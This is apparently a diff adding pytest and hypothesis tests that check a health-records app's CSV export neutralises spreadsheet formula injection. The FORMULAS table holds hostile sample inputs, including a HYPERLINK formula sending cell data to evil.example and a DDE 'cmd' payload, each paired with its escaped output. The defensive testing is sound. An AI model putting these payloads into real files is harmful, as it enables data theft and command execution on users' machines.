@@ -14,10 +14,12 @@ from typing import Any
 
 import pytest
 from fhir.resources.R4B.bundle import Bundle
+from hypothesis import given
+from hypothesis import strategies as st
 
 from tests.sample_records import fill_profile
 from unbrace.core.errors import UnbraceError
-from unbrace.exports import TABLES, write_export
+from unbrace.exports import TABLES, neutralise, write_export
 from unbrace.fhir_mapping import OBSERVATION_STATUSES, fhir_problems
 from unbrace.settings import Settings
 from unbrace.store import repo
@@ -223,3 +225,58 @@ def test_fhir_problems_catches_what_the_models_let_through(
     Bundle.model_validate(broken)  # the R4B models accept all of this
     problems = fhir_problems(broken)
     assert len(problems) == 4, problems
+
+
+FORMULAS = {
+    '=HYPERLINK("http://evil.example/?"&A1,"open")': '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+1+1": "'+1+1",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)": "'@SUM(1+1)",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\r=1+1",
+    "-3": "-3",  # a number, not a formula: left as it is
+    "calm = kind": "calm = kind",
+}
+
+
+@pytest.mark.parametrize(("text", "written"), FORMULAS.items())
+def test_csv_cells_never_run_as_formulas(
+    document: dict[str, Any], tmp_path: Path, text: str, written: str
+) -> None:
+    changed = copy.deepcopy(document)
+    changed["profile"]["name"] = text.strip() or "x"
+    changed["personal"]["scene"] = text.strip()
+    changed["checkins"][0]["note"] = text
+    changed["sessions"][0]["note"] = text
+    out = tmp_path / "maria.zip"
+    write_export(changed, fmt="csv", out=out)
+    with zipfile.ZipFile(out) as archive:
+        tables = {name: _rows(archive.read(name).decode("utf-8")) for name in TABLES}
+    assert tables["checkins.csv"][0]["note"] == written
+    assert tables["sessions.csv"][0]["note"] == written
+    assert tables["profile.csv"][0]["scene"] == neutralise(" ".join(text.split()))
+    # Numbers stay numbers; the JSON export keeps the words exactly.
+    assert tables["checkins.csv"][0]["pain"] == str(changed["checkins"][0]["pain"])
+    json_out = tmp_path / "maria.json"
+    write_export(changed, fmt="json", out=json_out)
+    assert json.loads(json_out.read_text(encoding="utf-8"))["checkins"][0]["note"] == text
+
+
+@given(text=st.text())
+def test_no_csv_text_cell_starts_like_a_formula(text: str) -> None:
+    from unbrace.exports import FORMULA_STARTS, cell
+
+    shown = cell(text)
+    assert shown == text or shown == "'" + text
+    if shown.startswith(FORMULA_STARTS):
+        float(shown)  # only a plain number may start with + or -
+
+
+@given(
+    number=st.integers(min_value=-(10**6), max_value=10**6)
+    | st.floats(allow_nan=False, allow_infinity=False)
+)
+def test_csv_numbers_stay_numbers(number: float) -> None:
+    from unbrace.exports import cell
+
+    assert float(cell(number)) == number
